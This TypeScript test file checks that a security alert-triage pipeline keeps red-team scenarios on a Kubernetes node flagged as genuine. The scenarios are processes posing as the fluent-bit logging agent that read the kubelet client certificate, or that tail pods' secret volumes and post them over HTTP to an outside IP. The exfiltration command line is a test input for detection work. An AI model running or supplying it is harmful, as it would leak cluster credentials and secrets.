/**
 * Red-team traps for the excuses given to node sensors' host processes (no container id): an attacker on the node who
 * knows the rule names their processes like the excused daemon, or works while a colleague's debug session is open.
 * Every alert here must stay genuine.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, indexOf, node, owner, pod } from '../../support/cluster.js';

const SHIM = { name: 'containerd-shim-runc-v2', commandLine: 'containerd-shim-runc-v2 -namespace k8s.io -id 1a2b' };

describe('redteam host-component: a look-alike container on the node whose entrypoint is named like the agent', () => {
  const N = 'ip-10-0-3-17.eu-west-1.compute.internal';
  const agent = pod('fluent-bit-7kq2p', {
    namespace: 'logging',
    node: N,
    ip: '10.0.3.40',
    owner: { kind: 'DaemonSet', name: 'fluent-bit' },
    containers: [{ name: 'fluent-bit', image: 'cr.fluentbit.io/fluent/fluent-bit:3.0.4', command: ['/fluent-bit/bin/fluent-bit'], args: ['-c', '/fluent-bit/etc/fluent-bit.conf'] }],
  });
  const lookalike = pod('log-helper', {
    namespace: 'default',
    node: N,
    ip: '10.0.3.41',
    containers: [{ name: 'helper', image: 'docker.io/someone/tools:latest', command: ['/fluent-bit'] }],
  });
  const index = indexOf([node(N, '10.0.3.17'), owner('DaemonSet', 'fluent-bit', 'logging'), agent, lookalike]);
  it('trap: a `fluent-bit` under the runtime shim reading the kubelet credentials, while a naked pod on the node runs its own /fluent-bit', () => {
    const v = triageAlert(
      alert({ host: N, title: 'Sensitive file read by unexpected process', file: '/var/lib/kubelet/pki/kubelet-client-current.pem', process: { name: 'fluent-bit', path: '/fluent-bit', commandLine: '/fluent-bit' }, ancestors: [SHIM] }),
      { index },
    ).verdict;
    expect(v.label).toBe('genuine');
  });
});

describe('redteam host-component: the agent\'s own program with an attacker\'s arguments (kubelet API exec, no audit)', () => {
  const N = 'ip-10-0-3-18.eu-west-1.compute.internal';
  const agent = pod('fluent-bit-9zq4m', {
    namespace: 'logging',
    node: N,
    ip: '10.0.3.50',
    owner: { kind: 'DaemonSet', name: 'fluent-bit' },
    containers: [{ name: 'fluent-bit', image: 'cr.fluentbit.io/fluent/fluent-bit:3.0.4', command: ['/fluent-bit/bin/fluent-bit'], args: ['-c', '/fluent-bit/etc/fluent-bit.conf'] }],
  });
  const index = indexOf([node(N, '10.0.3.18'), owner('DaemonSet', 'fluent-bit', 'logging'), agent]);
  const SHIM = { name: 'containerd-shim-runc-v2', commandLine: 'containerd-shim-runc-v2 -namespace k8s.io -id 9f8e' };
  const run = (commandLine: string) =>
    triageAlert(alert({ host: N, title: 'Unexpected outbound connection', process: { name: 'fluent-bit', path: '/fluent-bit/bin/fluent-bit', commandLine }, ancestors: [SHIM], network: { dstIp: '203.0.113.7', dstPort: 443 } }), { index }).verdict;
  it('still explains the agent running its own command', () => {
    expect(run('/fluent-bit/bin/fluent-bit -c /fluent-bit/etc/fluent-bit.conf').label).toBe('likely-false-positive');
  });
  it('trap: fluent-bit started by the runtime with a tail of the secret volumes and an HTTP output to the outside', () => {
    expect(run('/fluent-bit/bin/fluent-bit -i tail -p path=/var/lib/kubelet/pods/*/volumes/kubernetes.io~secret/*/* -o http -p host=203.0.113.7 -p port=443').label).toBe('genuine');
  });
});
